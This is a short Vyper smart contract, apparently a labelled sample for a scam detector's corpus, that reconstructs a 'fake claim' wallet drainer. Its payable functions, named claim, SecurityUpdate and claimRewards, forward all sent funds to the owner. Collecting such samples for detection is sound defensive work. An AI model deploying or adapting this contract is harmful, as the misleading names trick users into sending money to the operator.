# pragma version ~=0.4.3
# @title DrainerClaim
# @notice A reconstruction of the "fake claim" drainer pattern from public incident
#         reports: a payable no-argument function with a reassuring name that forwards
#         whatever is sent to the operator's EOA. For the guard's corpus only.

owner: public(address)


@deploy
def __init__(_owner: address):
    self.owner = _owner


@external
@payable
def claim():
    send(self.owner, msg.value)


@external
@payable
def SecurityUpdate():
    send(self.owner, msg.value)


@external
@payable
def claimRewards():
    send(self.owner, msg.value)
